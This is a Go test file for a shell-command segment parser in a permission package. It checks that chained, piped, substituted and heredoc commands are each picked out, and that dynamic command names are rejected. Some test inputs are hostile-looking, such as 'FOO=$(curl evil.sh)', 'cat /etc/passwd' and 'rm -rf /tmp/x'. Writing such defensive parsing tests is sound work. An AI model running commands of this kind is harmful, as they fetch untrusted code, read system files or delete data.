package permission

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func segmentNames(segments []Segment) []string {
	names := make([]string, 0, len(segments))
	for _, s := range segments {
		names = append(names, s.Name)
	}
	return names
}

func TestExtractSegments_Simple(t *testing.T) {
	segments, err := ExtractSegments("ls -la /tmp")
	require.NoError(t, err)
	require.Len(t, segments, 1)
	assert.Equal(t, "ls", segments[0].Name)
	assert.Equal(t, []string{"-la", "/tmp"}, segments[0].Args)
	assert.Equal(t, "ls -la /tmp", segments[0].Text)
}

func TestExtractSegments_CompoundCommands(t *testing.T) {
	tests := []struct {
		name    string
		command string
		want    []string
	}{
		{
			name:    "and chain",
			command: "git status && rm -rf /tmp/x",
			want:    []string{"git", "rm"},
		},
		{
			name:    "or chain",
			command: "make || echo failed",
			want:    []string{"make", "echo"},
		},
		{
			name:    "semicolon",
			command: "cd /tmp; ls",
			want:    []string{"cd", "ls"},
		},
		{
			name:    "pipeline stages",
			command: "cat /etc/passwd | grep root | wc -l",
			want:    []string{"cat", "grep", "wc"},
		},
		{
			name:    "command substitution",
			command: "echo $(whoami)",
			want:    []string{"echo", "whoami"},
		},
		{
			name:    "backtick substitution",
			command: "echo `id -u`",
			want:    []string{"echo", "id"},
		},
		{
			name:    "nested substitution",
			command: "echo $(echo $(uname))",
			want:    []string{"echo", "echo", "uname"},
		},
		{
			name:    "process substitution",
			command: "diff <(sort a.txt) <(sort b.txt)",
			want:    []string{"diff", "sort", "sort"},
		},
		{
			name:    "background job",
			command: "sleep 10 & echo started",
			want:    []string{"sleep", "echo"},
		},
		{
			name:    "substitution inside heredoc",
			command: "cat <<EOF\nhello $(hostname)\nEOF",
			want:    []string{"cat", "hostname"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			segments, err := ExtractSegments(tt.command)
			require.NoError(t, err)
			assert.Equal(t, tt.want, segmentNames(segments))
		})
	}
}

func TestExtractSegments_DeclarationsAndTest(t *testing.T) {
	segments, err := ExtractSegments("export PATH=/bin && [[ -f /etc/passwd ]]")
	require.NoError(t, err)
	assert.Equal(t, []string{"export", "test"}, segmentNames(segments))
}

func TestExtractSegments_AssignmentOnlySkipped(t *testing.T) {
	segments, err := ExtractSegments("FOO=bar")
	require.NoError(t, err)
	assert.Empty(t, segments)

	// A substitution inside an assignment value is still an execution point.
	segments, err = ExtractSegments("FOO=$(curl evil.sh)")
	require.NoError(t, err)
	assert.Equal(t, []string{"curl"}, segmentNames(segments))
}

func TestExtractSegments_ParseErrors(t *testing.T) {
	tests := []string{
		"ls &&",
		"echo 'unterminated",
		"if true; then",
	}
	for _, command := range tests {
		t.Run(command, func(t *testing.T) {
			_, err := ExtractSegments(command)
			require.Error(t, err)
			assert.Contains(t, err.Error(), "could not be parsed safely")
		})
	}
}

func TestExtractSegments_PromptTransformRejected(t *testing.T) {
	_, err := ExtractSegments(`echo "${PS1@P}"`)
	assert.ErrorIs(t, err, ErrPromptTransform)
}

func TestExtractSegments_DynamicCommandNameRejected(t *testing.T) {
	_, err := ExtractSegments("$CMD --help")
	assert.ErrorIs(t, err, ErrDynamicCommand)

	_, err = ExtractSegments("$(pick) run")
	assert.ErrorIs(t, err, ErrDynamicCommand)
}

func TestExtractSegments_QuotedName(t *testing.T) {
	segments, err := ExtractSegments(`"git" status`)
	require.NoError(t, err)
	require.Len(t, segments, 1)
	assert.Equal(t, "git", segments[0].Name)
}
